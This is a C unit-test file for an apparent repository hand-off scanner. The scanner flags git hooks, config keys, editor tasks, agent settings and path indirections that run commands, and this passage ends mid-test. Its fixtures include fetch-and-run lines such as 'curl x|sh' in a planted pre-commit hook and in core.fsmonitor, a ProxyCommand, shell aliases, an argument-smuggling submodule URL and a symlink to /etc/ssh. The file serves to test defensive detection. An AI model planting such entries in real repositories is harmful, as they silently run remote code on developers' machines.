/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Unit tests for the hand-off module: the glob matcher agrees with a
 * brute-force reference on generated patterns and paths; every rule of the
 * table matches its intended files at any depth and not their neighbours;
 * the content inspector reports each command-running entry and stays quiet
 * on the harmless entry beside it; the scanner and its baselines report
 * what was planted and nothing that was already there; SHA-256 matches the
 * FIPS 180-4 examples.
 */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "handoff/handoff.h"
#include "policy/protect.h"
#include "policy/policy.h"
#include "util/sha256.h"

/* ---- the glob matcher against a backtracking reference ---- */

static const char *ref_pattern; /* the start of the pattern being matched */

static bool ref_match(const char *p, const char *s)
{
	if (!*p)
		return !*s;
	if (p[0] == '*' && p[1] == '*') {
		const char *q = p + 2;
		while (*q == '*')
			q++;
		bool boundary = *q == '/' && (p == ref_pattern || p[-1] == '/');
		/* "**" + "/": zero directories (skip "**" + "/"), or any run
		 * ending in '/'. Plain "**": any run. */
		if (boundary && ref_match(q + 1, s))
			return true;
		for (const char *t = s;; t++) {
			if (boundary) {
				if (t > s && t[-1] == '/' && ref_match(q + 1, t))
					return true;
			} else if (ref_match(q, t)) {
				return true;
			}
			if (!*t)
				return false;
		}
	}
	if (*p == '*') {
		for (const char *t = s;; t++) {
			if (ref_match(p + 1, t))
				return true;
			if (!*t || *t == '/')
				return false;
		}
	}
	return *s && *p == *s && ref_match(p + 1, s + 1);
}

static void test_glob_against_reference(void **state)
{
	(void)state;
	/* Patterns and paths over a small alphabet, all short ones. */
	static const char pa[] = "a/*";
	static const char sa[] = "ab/";
	char p[8], s[8];
	unsigned long checked = 0;
	srand(7);
	for (int iter = 0; iter < 200000; iter++) {
		int pl = rand() % 7, sl = rand() % 7;
		for (int i = 0; i < pl; i++)
			p[i] = pa[rand() % 3];
		p[pl] = '\0';
		for (int i = 0; i < sl; i++)
			s[i] = sa[rand() % 3];
		s[sl] = '\0';
		/* "**" + "/" is the directory form only at a name boundary;
		 * elsewhere "**" is any run, in both. */
		ref_pattern = p;
		bool want = ref_match(p, s);
		if (handoff_glob_match(p, s) != want)
			fail_msg("pattern \"%s\" path \"%s\": matcher %d, reference %d", p, s, !want, want);
		checked++;
	}
	assert_true(checked > 50000);
}

static void test_rules_match_at_any_depth(void **state)
{
	(void)state;
	static const struct {
		const char *path;
		const char *category; /* NULL: no rule */
	} cases[] = {
		{ ".git/hooks/pre-commit", "git" },
		{ "sub/repo/.git/hooks/post-checkout", "git" },
		{ ".git/config", "git" },
		{ "nested/.git/config", "git" },
		{ ".git/worktrees/wt1/config.worktree", "git" },
		{ ".git/modules/lib/hooks/pre-push", "git" },
		{ ".git/info/attributes", "git" },
		{ ".gitattributes", "git" },
		{ "docs/.gitattributes", "git" },
		{ ".husky/pre-commit", "git" },
		{ ".vscode/tasks.json", "editor" },
		{ "proj.code-workspace", "editor" },
		{ ".envrc", "shell" },
		{ "svc/.envrc", "shell" },
		{ ".venv/bin/python", "python" },
		{ "lib/python3.12/site-packages/evil.pth", "python" },
		{ ".github/workflows/ci.yml", "ci" },
		{ ".gitlab-ci.yml", "ci" },
		{ ".devcontainer/devcontainer.json", "container" },
		{ ".claude/settings.json", "agent" },
		{ ".mcp.json", "agent" },
		{ "Makefile", "build" },
		{ "src/Makefile", "build" },
		/* neighbours */
		{ ".git/objects/ab/cdef", NULL },
		{ ".git/refs/heads/main", NULL },
		{ ".git/index", NULL },
		{ ".git/HEAD", NULL },
		{ ".githooks-notes", NULL },
		{ "x.gitx/hooks/pre-commit", NULL },
		{ "xgit/hooks/pre-commit", NULL },
		{ ".git/hooksy/a", NULL },
		{ "src/main.c", NULL },
		{ "Makefile.am", NULL },
		{ "myMakefile", NULL },
		{ "site-packages/a/b.pth", NULL },
		{ ".envrc.bak", NULL },
		{ "README.md", NULL },
	};
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const struct handoff_rule *r = handoff_match(cases[i].path);
		if (!cases[i].category && r)
			fail_msg("%s: matched %s, wanted none", cases[i].path, r->pattern);
		if (cases[i].category && (!r || strcmp(r->category, cases[i].category)))
			fail_msg("%s: %s, wanted category %s", cases[i].path, r ? r->category : "no rule",
				 cases[i].category);
	}
}

/* ---- the inspector ---- */

static size_t inspect(const char *rel, const char *text, struct handoff_finding *f)
{
	return handoff_inspect(rel, text, strlen(text), f, HANDOFF_MAX_FINDINGS);
}

static bool any_finding(const struct handoff_finding *f, size_t n, const char *needle)
{
	for (size_t i = 0; i < n; i++)
		if (strstr(f[i].what, needle))
			return true;
	return false;
}

static void test_inspect_git_config(void **state)
{
	(void)state;
	struct handoff_finding f[HANDOFF_MAX_FINDINGS];
	const char *cfg = "[core]\n"
			  "\trepositoryformatversion = 0\n"
			  "\tfilemode = true\n"
			  "\tfsmonitor = sh -c 'curl x|sh'\n"
			  "\tsshCommand = ssh -oProxyCommand=evil\n"
			  "[filter \"lfsx\"]\n"
			  "\tsmudge = ./payload\n"
			  "[alias]\n"
			  "\tst = status\n"
			  "\tup = !sh -c evil\n"
			  "[includeIf \"gitdir:~/\"]\n"
			  "\tpath = /tmp/x\n"
			  "[remote \"origin\"]\n"
			  "\turl = https://example.test/r.git\n"
			  "\tuploadpack = evil\n";
	size_t n = inspect(".git/config", cfg, f);
	assert_true(any_finding(f, n, "core.fsmonitor"));
	assert_true(any_finding(f, n, "core.sshCommand"));
	assert_true(any_finding(f, n, "filter.lfsx.smudge"));
	assert_true(any_finding(f, n, "alias.up"));
	assert_true(any_finding(f, n, "includeIf.gitdir:~/.path"));
	assert_true(any_finding(f, n, "remote.origin.uploadpack"));
	assert_false(any_finding(f, n, "alias.st"));
	assert_false(any_finding(f, n, "filemode"));
	assert_false(any_finding(f, n, "remote.origin.url"));
	assert_int_equal(n, 6);
	assert_int_equal(f[0].line, 4);

	/* The same keys, switched off or harmless, report nothing. */
	const char *quiet = "[core]\n\tfsmonitor = false\n\tbare = false\n[user]\n\tname = x\n";
	assert_int_equal(inspect(".git/config", quiet, f), 0);
	/* A file named config outside .git is not git's. */
	assert_int_equal(inspect("app/config", cfg, f), 0);
	/* Old-style [section.sub] and a key on the section line. */
	n = inspect("sub/.git/config", "[diff.pdf]\n\ttextconv = pdftotext\n[core] hooksPath = /tmp/h\n", f);
	assert_int_equal(n, 2);
	assert_true(any_finding(f, n, "diff.pdf.textconv"));
	assert_true(any_finding(f, n, "core.hooksPath"));
}

static void test_inspect_other_files(void **state)
{
	(void)state;
	struct handoff_finding f[HANDOFF_MAX_FINDINGS];

	assert_int_equal(inspect(".gitattributes", "*.c filter=evil\n*.png binary\n", f), 1);
	assert_int_equal(inspect(".gitattributes", "*.png binary\n*.txt text eol=lf\n", f), 0);
	assert_int_equal(inspect(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\tupdate = !sh evil\n", f), 1);
	assert_int_equal(inspect(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = -u./payload\n", f), 1);
	assert_int_equal(inspect(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = https://e.test/x\n", f), 0);
	assert_int_equal(inspect(".vscode/tasks.json",
				 "{\"tasks\":[{\n\"label\":\"x\",\n\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n", f),
			 1);
	assert_int_equal(inspect(".vscode/tasks.json", "{\"tasks\":[{\n\"label\":\"build\"}]}\n", f), 0);
	assert_int_equal(inspect(".vscode/settings.json", "{\n  \"python.defaultInterpreterPath\": \"/tmp/x\"\n}\n", f),
			 1);
	assert_int_equal(inspect(".vscode/settings.json", "{\n  \"editor.tabSize\": 4\n}\n", f), 0);
	assert_int_equal(inspect(".mcp.json", "{\"mcpServers\":{\"x\":{\n\"command\": \"sh\"}}}\n", f), 1);
	assert_int_equal(inspect("lib/site-packages/a.pth", "import os; os.system('x')\n/usr/lib/extra\n", f), 1);
	assert_int_equal(inspect("lib/site-packages/a.pth", "/usr/lib/extra\n", f), 0);
	assert_int_equal(inspect(".yarnrc.yml", "yarnPath: .yarn/releases/evil.cjs\n", f), 1);
	assert_int_equal(inspect("sub/.git", "gitdir: /home/u/other/.git\n", f), 1);
	assert_int_equal(inspect("sub/.git", "gitdir: ../.git/modules/sub\n", f), 0);
	/* Control bytes never reach a finding's text. */
	size_t n = inspect(".git/config", "[core]\n\tpager = \x1b[2Jevil\n", f);
	assert_int_equal(n, 1);
	assert_null(strchr(f[0].what, '\x1b'));
}

static void test_path_escapes(void **state)
{
	(void)state;
	assert_true(handoff_path_escapes("keys", "/root/.ssh"));
	assert_true(handoff_path_escapes("keys", "../x"));
	assert_true(handoff_path_escapes("a/keys", "../../x"));
	assert_true(handoff_path_escapes("a/keys", "b/../../../x"));
	assert_false(handoff_path_escapes("a/keys", "../x"));
	assert_false(handoff_path_escapes("a/keys", "./b/../c"));
	assert_false(handoff_path_escapes("keys", "sub/file"));
}

static void sha256_vectors(void)
{
	char hex[65];
	sha256_hex("abc", 3, hex);
	assert_string_equal(hex, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
	sha256_hex("", 0, hex);
	assert_string_equal(hex, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
	const char *two = "abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq";
	sha256_hex(two, strlen(two), hex);
	assert_string_equal(hex, "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
	/* One million 'a', fed in uneven pieces. */
	struct sha256 c;
	uint8_t d[32];
	char block[997];
	memset(block, 'a', sizeof(block));
	sha256_init(&c);
	size_t left = 1000000;
	for (size_t k = 1; left; k = k % 997 + 1) {
		size_t take = k < left ? k : left;
		sha256_update(&c, block, take);
		left -= take;
	}
	sha256_final(&c, d);
	for (int i = 0; i < 32; i++)
		snprintf(hex + 2 * i, 3, "%02x", d[i]);
	assert_string_equal(hex, "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

/* Both ways to the digest: the processor's SHA instructions where it has
 * them, and the portable rounds every processor runs. */
static void test_sha256_vectors(void **state)
{
	(void)state;
	sha256_vectors();
	sha256_force_portable(true);
	sha256_vectors();
	sha256_force_portable(false);
}

/* ---- the scanner ---- */

static void put(const char *root, const char *rel, const char *text, mode_t mode)
{
	char path[4096];
	snprintf(path, sizeof(path), "%s/%s", root, rel);
	for (char *p = path + strlen(root) + 1; (p = strchr(p, '/')); p++) {
		*p = '\0';
		mkdir(path, 0755);
		*p = '/';
	}
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, mode);
	assert_true(fd >= 0);
	assert_int_equal(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	close(fd);
	chmod(path, mode);
}

static const struct handoff_entry *find(const struct handoff_report *rep, const char *path)
{
	for (size_t i = 0; i < rep->n; i++)
		if (!strcmp(rep->e[i].path, path))
			return &rep->e[i];
	return NULL;
}

static const struct handoff_entry *must_find(const struct handoff_report *rep, const char *path)
{
	static const struct handoff_entry none = { 0 };
	const struct handoff_entry *x = find(rep, path);
	if (!x)
		fail_msg("%s is not in the report", path);
	return x ? x : &none;
}

static void test_scan_and_baseline(void **state)
{
	(void)state;
	char root[] = "/tmp/airlock-handoff-test.XXXXXX", base[4200];
	assert_non_null(mkdtemp(root));
	put(root, "src/main.c", "int main(void){return 0;}\n", 0644);
	put(root, ".git/config", "[core]\n\tbare = false\n", 0644);
	put(root, ".git/hooks/pre-commit.sample", "#!/bin/sh\n", 0755);
	put(root, ".github/workflows/ci.yml", "on: push\n", 0644);
	put(root, "bin/tool", "#!/bin/sh\n", 0755);

	struct error err = { 0 };
	struct handoff_report rep = { 0 };
	struct handoff_scan_opts opts = { 0 };
	assert_int_equal(handoff_scan(root, &opts, &rep, &err), 0);
	assert_non_null(find(&rep, ".github/workflows/ci.yml"));
	assert_non_null(find(&rep, ".git/config"));
	assert_null(find(&rep, ".git/hooks/pre-commit.sample"));
	assert_null(find(&rep, "src/main.c"));
	for (size_t i = 0; i < rep.n; i++)
		assert_false(rep.e[i].flagged);
	handoff_report_free(&rep);

	snprintf(base, sizeof(base), "%s.base", root);
	assert_int_equal(handoff_baseline_save(root, base, &err), 0);

	/* The agent's work: an edit, a hook, a config key, a new tool, a
	 * link out, a workflow change; and an ordinary source edit. */
	put(root, "src/main.c", "int main(void){return 1;}\n", 0644);
	put(root, ".git/hooks/pre-commit", "#!/bin/sh\ncurl x|sh\n", 0755);
	put(root, ".git/config", "[core]\n\tbare = false\n\thooksPath = /tmp/h\n", 0644);
	put(root, ".github/workflows/ci.yml", "on: push\njobs: {}\n", 0644);
	put(root, "newtool", "#!/bin/sh\n", 0755);
	char link[4200];
	snprintf(link, sizeof(link), "%s/keys", root);
	assert_int_equal(symlink("/etc/ssh", link), 0);

	struct handoff_baseline *b = NULL;
	assert_int_equal(handoff_baseline_load(base, &b, &err), 0);
	opts.baseline = b;
	assert_int_equal(handoff_scan(root, &opts, &rep, &err), 0);
	const struct handoff_entry *x;
	x = must_find(&rep, ".git/hooks/pre-commit");
	assert_true(x->flagged);
	assert_int_equal(x->change, HANDOFF_ADDED);
	x = must_find(&rep, ".git/config");
	assert_true(x->flagged);
	assert_int_equal(x->change, HANDOFF_MODIFIED);
	assert_non_null(strstr(x->reason, "core.hooksPath"));
	x = must_find(&rep, ".github/workflows/ci.yml");
	assert_int_equal(x->change, HANDOFF_MODIFIED);
	x = must_find(&rep, "newtool");
	assert_true(x->flagged);
	x = must_find(&rep, "keys");
	assert_true(x->flagged);
	assert_null(find(&rep, "src/main.c"));
	assert_null(find(&rep, "bin/tool"));
	assert_int_equal(rep.n, 5);
	handoff_report_free(&rep);
	handoff_baseline_free(b);

	/* A baseline that is not one is refused with its line. */
	put(root, "bad.base", "airlock-handoff-baseline 1\nF zz 644\n", 0644);
	char bad[4200];
	snprintf(bad, sizeof(bad), "%s/bad.base", root);
	assert_int_equal(handoff_baseline_load(bad, &b, &err), -EINVAL);
	assert_non_null(strstr(err.msg, ":2:"));

	char cmd[8500];
	snprintf(cmd, sizeof(cmd), "rm -rf '%s' '%s'", root, base);
	assert_int_equal(system(cmd), 0);
}

/* ---- protected paths ---- */

/* ---- repository indirection and other tools' config ---- */

static void test_rules_indirection(void **state)
{
	(void)state;
	static const struct {
		const char *path, *category;
	} yes[] = {
		{ ".git/commondir", "git" },
		{ "a/b/.git/commondir", "git" },
		{ ".git/objects/info/alternates", "git" },
		{ ".git/modules/m/commondir", "git" },
		{ ".git/worktrees/wt/commondir", "git" },
		{ "x/.hg/hgrc", "vcs" },
		{ ".hg/sharedpath", "vcs" },
		{ ".hg/hgrc-not-shared", "vcs" },
		{ ".cargo/config", "build" },
		{ "crates/a/.cargo/config.toml", "build" },
		{ "rust-toolchain.toml", "build" },
		{ "rust-toolchain", "build" },
		{ "web/.yarnrc", "node" },
		{ ".pnpmfile.cjs", "node" },
		{ ".pylintrc", "python" },
		{ "mise.toml", "shell" },
		{ ".config/mise/config.toml", "shell" },
		{ ".rtx.toml", "shell" },
		{ ".bazelrc", "build" },
		{ "tools/bazel", "build" },
		{ ".mvn/jvm.config", "build" },
		{ "gradle/wrapper/gradle-wrapper.properties", "build" },
		{ "tests/.pdbrc", "python" },
		{ "vendor/lib.git/config", "git" },
		{ "vendor/lib.git/hooks/post-update", "git" },
		{ ".irbrc", "shell" },
		{ ".Rprofile", "shell" },
		{ ".nvim.lua", "editor" },
	};
	for (size_t i = 0; i < sizeof(yes) / sizeof(yes[0]); i++) {
		const struct handoff_rule *r = handoff_match(yes[i].path);
		if (!r)
			fail_msg("%s matches no rule", yes[i].path);
		assert_string_equal(r->category, yes[i].category);
	}
	/* Neighbours: what git and ordinary work write. */
	static const char *const no[] = { ".git/worktrees/wt/gitdir", ".git/worktrees/wt/HEAD", ".git/objects/ab/cd",
					  "src/config", "app/config/x.toml", "src/objects/o.c", "hg/hgrc",
					  "cargo/config.toml", "yarnrc.txt", "vendor/lib.gitx/config", "lib.git.bak/config" };
	for (size_t i = 0; i < sizeof(no) / sizeof(no[0]); i++)
		if (handoff_match(no[i]))
			fail_msg("%s matches %s", no[i], handoff_match(no[i])->pattern);
	/* A worktree's commondir is judged by where it leads, not protected
	 * by name: git worktree add writes one. The main one is. */
	assert_true(handoff_match(".git/worktrees/wt/commondir")->pointer);
	struct policy pol = { 0 };
	pol.filesystem.protect_defaults = true;
	struct protect_set s;
	assert_int_equal(protect_set_from_policy(&pol, &s), 0);
	assert_null(protect_match(&s, ".git/worktrees/wt/commondir", false));
	assert_non_null(protect_match(&s, ".git/commondir", false));
	assert_non_null(protect_match(&s, ".git/objects/info/alternates", false));
	assert_non_null(protect_match(&s, "h/.hg/hgrc", false));
	assert_non_null(protect_match(&s, ".cargo/config.toml", false));
	protect_set_free(&s);
}

static unsigned bits(const char *const *names)
{
	unsigned b = 0;
	for (; *names; names++)
		b |= handoff_git_name_bit(*names);
	return b;
}

static void test_git_shape(void **state)
{
	(void)state;
#define SHAPE(have, add, admin) handoff_git_shape(bits((const char *const[]){ have, NULL }), handoff_git_name_bit(add), admin)
	/* Each way to make a repository with commands of its own, whatever
	 * name comes last. */
	unsigned common = HANDOFF_GIT_OBJECTS | HANDOFF_GIT_REFS;
	assert_non_null(handoff_git_shape(common, HANDOFF_GIT_CONFIG, false));
	assert_non_null(handoff_git_shape(HANDOFF_GIT_OBJECTS | HANDOFF_GIT_HOOKS, HANDOFF_GIT_REFS, false));
	assert_non_null(handoff_git_shape(HANDOFF_GIT_OBJECTS | HANDOFF_GIT_CONFIG, HANDOFF_GIT_REFS, false));
	assert_non_null(handoff_git_shape(HANDOFF_GIT_REFS | HANDOFF_GIT_HOOKS, HANDOFF_GIT_OBJECTS, false));
	assert_non_null(handoff_git_shape(HANDOFF_GIT_HEAD, HANDOFF_GIT_COMMONDIR, false));
	assert_non_null(handoff_git_shape(HANDOFF_GIT_COMMONDIR, HANDOFF_GIT_HEAD, false));
	assert_non_null(handoff_git_shape(HANDOFF_GIT_HEAD, HANDOFF_GIT_HOOKS, false));
	assert_non_null(handoff_git_shape(HANDOFF_GIT_CONFIG_WT, HANDOFF_GIT_HEAD, false));
	assert_non_null(SHAPE("HEAD", "config", false));
	/* Neighbours: a repository without commands of its own, source
	 * directories named config or objects, names of no meaning to git. */
	assert_null(handoff_git_shape(HANDOFF_GIT_HEAD | HANDOFF_GIT_OBJECTS, HANDOFF_GIT_REFS, false));
	assert_null(handoff_git_shape(HANDOFF_GIT_CONFIG, HANDOFF_GIT_OBJECTS, false));
	assert_null(handoff_git_shape(HANDOFF_GIT_HOOKS, HANDOFF_GIT_REFS, false));
	assert_null(handoff_git_shape(common | HANDOFF_GIT_CONFIG | HANDOFF_GIT_HEAD, 0, false));
	/* A directory named HEAD or config is no file git reads. */
	assert_int_equal(handoff_git_entry_bit("config", true), 0);
	assert_int_equal(handoff_git_entry_bit("HEAD", true), 0);
	assert_int_equal(handoff_git_entry_bit("objects", true), HANDOFF_GIT_OBJECTS);
	assert_int_equal(handoff_git_entry_bit("config", false), HANDOFF_GIT_CONFIG);
	assert_int_equal(handoff_git_entry_bit("configs", false), 0);
	/* A worktree's administrative directory: HEAD, commondir and refs
	 * as git worktree add makes them; never config, hooks or objects. */
	assert_true(handoff_git_admin_dir(".git/worktrees/wt"));
	assert_true(handoff_git_admin_dir("sub/.git/worktrees/x"));
	assert_false(handoff_git_admin_dir(".git/worktrees"));
	assert_false(handoff_git_admin_dir("worktrees/wt"));
	assert_null(handoff_git_shape(HANDOFF_GIT_HEAD, HANDOFF_GIT_COMMONDIR, true));
	assert_null(handoff_git_shape(HANDOFF_GIT_HEAD | HANDOFF_GIT_COMMONDIR, HANDOFF_GIT_REFS, true));
	assert_non_null(handoff_git_shape(HANDOFF_GIT_HEAD | HANDOFF_GIT_COMMONDIR, HANDOFF_GIT_CONFIG, true));
	assert_non_null(handoff_git_shape(HANDOFF_GIT_HEAD | HANDOFF_GIT_COMMONDIR, HANDOFF_GIT_HOOKS, true));
	assert_non_null(handoff_git_shape(HANDOFF_GIT_HEAD | HANDOFF_GIT_COMMONDIR, HANDOFF_GIT_OBJECTS, true));
#undef SHAPE
}

/* A git directory that exists, as the start-up walk judges a listing:
 * git's own test, a worktree's administrative directory, a common
 * directory; not a directory that merely holds names git uses. */
static void test_git_repository(void **state)
{
	(void)state;
#define REPO(...) handoff_git_repository(bits((const char *const[]){ __VA_ARGS__, NULL }))
	assert_true(REPO("HEAD", "objects", "refs", "config", "hooks"));   /* git init --bare */
	assert_true(REPO("HEAD", "objects", "refs"));
	assert_true(REPO("HEAD", "commondir"));                            /* worktrees/ID */
	assert_true(REPO("HEAD", "commondir", "config.worktree"));
	assert_true(REPO("objects", "refs", "config"));                    /* a common directory */
	assert_false(REPO("HEAD", "config"));
	assert_false(REPO("HEAD", "config", "hooks", "objects"));
	assert_false(REPO("HEAD", "refs", "config"));
	assert_false(REPO("commondir", "config"));
	assert_false(REPO("objects", "config", "hooks"));
	assert_false(handoff_git_repository(0));
	/* HEAD, config or commondir as a directory is no file git reads. */
	assert_false(handoff_git_repository(handoff_git_entry_bit("HEAD", true) | HANDOFF_GIT_COMMONDIR));
	assert_false(handoff_git_repository(HANDOFF_GIT_HEAD | handoff_git_entry_bit("commondir", true)));
	/* objects and refs count as any type (git's access() follows links). */
	assert_true(handoff_git_repository(handoff_git_entry_bit("objects", false) | handoff_git_entry_bit("refs", false)));
#undef REPO
}

static const char *alias_rule(const struct handoff_links *l, const char *rel, bool is_link, char *via)
{
	const struct handoff_rule *r = handoff_match_aliases(l, rel, is_link, via, 4096);
	return r ? r->pattern : NULL;
}

static void test_aliases(void **state)
{
	(void)state;
	struct handoff_links l = { 0 };
	char via[4096];
	assert_int_equal(handoff_links_add(&l, ".vscode", "tools"), 0);
	assert_int_equal(handoff_links_add(&l, "l1", "docs/x"), 0);
	assert_int_equal(handoff_links_add(&l, "l2", "l1"), 0);
	assert_int_equal(handoff_links_add(&l, "a/.github", "../ci"), 0);
	assert_int_equal(handoff_links_add(&l, "deep/.claude", "./../deep/../l2/"), 0);
	assert_int_equal(handoff_links_add(&l, "out", "../../x"), 0);   /* leaves: not recorded */
	assert_int_equal(handoff_links_add(&l, "abs", "/etc"), 0);      /* absolute: not recorded */
	assert_int_equal(handoff_links_add(&l, ".envrc", "notes.txt"), 0);
	assert_int_equal(handoff_links_add(&l, "top", "."), 0);
	assert_int_equal(l.n, 7);
	/* The link's own name stands for the directory. */
	assert_string_equal(alias_rule(&l, ".vscode", true, via), "**/.vscode/**");
	assert_string_equal(via, "");
	/* A file beneath its target, by the link's name. */
	assert_string_equal(alias_rule(&l, "tools/tasks.json", false, via), "**/.vscode/**");
	assert_string_equal(via, ".vscode/tasks.json");
	assert_string_equal(alias_rule(&l, "ci/workflows/x.yml", false, via), "**/.github/workflows/**");
	assert_string_equal(via, "a/.github/workflows/x.yml");
	/* A chain: deep/.claude -> l2 -> l1 -> docs/x, and ".." in a target. */
	assert_string_equal(alias_rule(&l, "docs/x/settings.json", false, via), "**/.claude/**");
	assert_string_equal(via, "deep/.claude/settings.json");
	/* A hand-off file that is a link makes its target the file. */
	assert_string_equal(alias_rule(&l, "notes.txt", false, via), "**/.envrc");
	/* A link to the top gives every path another name; still bounded. */
	assert_string_equal(alias_rule(&l, "tools/launch.json", false, via), "**/.vscode/**");
	/* Neighbours: files no hand-off name reaches; a regular file at a
	 * directory's name is no hand-off. */
	assert_null(alias_rule(&l, "src/a.c", false, via));
	assert_null(alias_rule(&l, "docs/y/settings.json", false, via));
	assert_null(alias_rule(&l, ".vscode", false, via));
	handoff_links_free(&l);
	/* No links: the path alone. */
	assert_null(alias_rule(NULL, "tools/tasks.json", false, via));
	assert_string_equal(alias_rule(NULL, ".vscode/tasks.json", false, via), "**/.vscode/**");
	char out[64];
	assert_true(handoff_path_resolve("a/b", "../c/./d", out, sizeof(out)));
	assert_string_equal(out, "a/c/d");
	assert_false(handoff_path_resolve("a", "../../x", out, sizeof(out)));
	assert_true(handoff_path_resolve("", ".", out, sizeof(out)));
	assert_string_equal(out, "");
}

static size_t inspect_root(const char *root, const char *rel, const char *text, struct handoff_finding *f)
{
	return handoff_inspect_in(root, rel, text, strlen(text), f, HANDOFF_MAX_FINDINGS);
}

static void test_inspect_pointers(void **state)
{
	(void)state;
	struct handoff_finding f[HANDOFF_MAX_FINDINGS];
	/* .git files: a worktree's or a submodule's directory, by a relative
	 * path or by the absolute one git writes, is fine; anything else is
	 * a repository git takes as this one. */
	assert_int_equal(inspect_root("/w", "wt/.git", "gitdir: /w/.git/worktrees/wt\n", f), 0);
	assert_int_equal(inspect_root("/w", "a/wt/.git", "gitdir: ../../.git/worktrees/wt\n", f), 0);
	assert_int_equal(inspect_root("/w", "m/.git", "gitdir: ../.git/modules/m\n", f), 0);
	assert_int_equal(inspect_root("/w", "sub/.git", "gitdir: ../e4\n", f), 1);
	assert_non_null(strstr(f[0].what, "not a worktree's"));
	assert_int_equal(inspect_root("/w", "sub/.git", "gitdir: /w/e4\n", f), 1);
	assert_int_equal(inspect_root("/w", "sub/.git", "gitdir: /tmp/e4\n", f), 1);
	assert_non_null(strstr(f[0].what, "outside"));
	assert_int_equal(inspect_root(NULL, "wt/.git", "gitdir: /w/.git/worktrees/wt\n", f), 1);
	/* commondir: a worktree's leading back to its repository, or not */
	assert_int_equal(inspect_root("/w", ".git/worktrees/wt/commondir", "../..\n", f), 0);
	assert_int_equal(inspect_root("/w", ".git/worktrees/wt/commondir", "/w/.git\n", f), 0);
	assert_int_equal(inspect_root("/w", "s/.git/worktrees/wt/commondir", "../..\n", f), 0);
	assert_int_equal(inspect_root("/w", ".git/worktrees/wt/commondir", "../../../e1\n", f), 1);
	assert_int_equal(inspect_root("/w", ".git/worktrees/wt/commondir", "/w/e1\n", f), 1);
	assert_int_equal(inspect_root("/w", ".git/worktrees/wt/commondir", "/elsewhere\n", f), 1);
	assert_int_equal(inspect_root("/w", ".git/commondir", "..\n", f), 1);
	/* alternates and Mercurial's sharedpath */
	assert_int_equal(inspect_root("/w", ".git/objects/info/alternates", "/tmp/o\n# c\n../x\n", f), 2);
	assert_int_equal(inspect_root("/w", "h/.hg/sharedpath", "/tmp/evil/.hg", f), 1);
	/* other tools' config that runs commands, and neighbours */
	assert_int_equal(inspect_root("/w", "h/.hg/hgrc", "[ui]\nusername = me\n[hooks]\nupdate = id\n", f), 1);
	assert_non_null(strstr(f[0].what, "update"));
	assert_int_equal(inspect_root("/w", "h/.hg/hgrc", "[paths]\ndefault = https://x\n", f), 0);
	assert_int_equal(inspect_root("/w", ".cargo/config.toml", "[build]\nrustc-wrapper = \"/bin/id\"\n", f), 1);
	assert_int_equal(inspect_root("/w", ".cargo/config", "[target.x]\nrunner = \"id\"\n", f), 1);
	assert_int_equal(inspect_root("/w", ".cargo/config.toml", "[build]\njobs = 4\n", f), 0);
	assert_int_equal(inspect_root("/w", "rust-toolchain.toml", "[toolchain]\npath = \"/tmp/tc\"\n", f), 1);
	assert_int_equal(inspect_root("/w", "rust-toolchain.toml", "[toolchain]\nchannel = \"1.80\"\n", f), 0);
	assert_int_equal(inspect_root("/w", ".yarnrc", "yarn-path \"./y.js\"\n", f), 1);
	assert_int_equal(inspect_root("/w", ".yarnrc", "registry \"https://r\"\n", f), 0);
	assert_int_equal(inspect_root("/w", ".pylintrc", "[MAIN]\ninit-hook='import os'\n", f), 1);
	assert_int_equal(inspect_root("/w", "src/config", "runner = x\n", f), 0);
}

/* The scanner, on each kind of indirection and a set-ID file. */
static void test_scan_indirection(void **state)
{
	(void)state;
	char root[] = "/tmp/airlock-handoff-ind.XXXXXX", p[4200];
	assert_non_null(mkdtemp(root));
	put(root, "tools/tasks.json", "{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}\n", 0644);
	snprintf(p, sizeof(p), "%s/.vscode", root);
	assert_int_equal(symlink("tools", p), 0);
	put(root, "vendor/b/HEAD", "ref: refs/heads/main\n", 0644);
	put(root, "vendor/b/objects/x", "", 0644);
	put(root, "vendor/b/refs/x", "", 0644);
	put(root, "vendor/b/config", "[core]\n\tfsmonitor = id\n", 0644);
	put(root, "vendor/b/hooks/post-checkout", "#!/bin/sh\nid\n", 0755);
	put(root, ".git/objects/info/alternates", "/tmp/o\n", 0644);
	put(root, ".git/commondir", "../e1\n", 0644);
	put(root, "suid", "x", 0755);
	snprintf(p, sizeof(p), "%s/suid", root);
	assert_int_equal(chmod(p, 04755), 0);
	put(root, ".git/worktrees/wt/HEAD", "ref: refs/heads/b\n", 0644);
	put(root, ".git/worktrees/wt/commondir", "../..\n", 0644);
	put(root, ".git/worktrees/wt/config", "[core]\n\tfsmonitor = id\n", 0644);
	put(root, ".git/worktrees/wt2/commondir", "../../../e1\n", 0644);
	snprintf(p, sizeof(p), "%s/sub", root);
	mkdir(p, 0755);
	snprintf(p, sizeof(p), "%s/sub/.git", root);
	assert_int_equal(symlink("../tools", p), 0);
	/* neighbours: source directories named config and objects, a link
	 * that is no hand-off, a worktree as git makes it */
	char wt[4300];
	snprintf(wt, sizeof(wt), "gitdir: %s/.git/worktrees/wt\n", root);
	put(root, "wt/.git", wt, 0644);
	put(root, "app/config/settings.ini", "k=v\n", 0644);
	put(root, "app/objects/o.c", "int o;\n", 0644);
	put(root, "app/refs/r.c", "int r;\n", 0644);
	snprintf(p, sizeof(p), "%s/srclink", root);
	assert_int_equal(symlink("app", p), 0);

	struct error err = { 0 };
	struct handoff_report rep = { 0 };
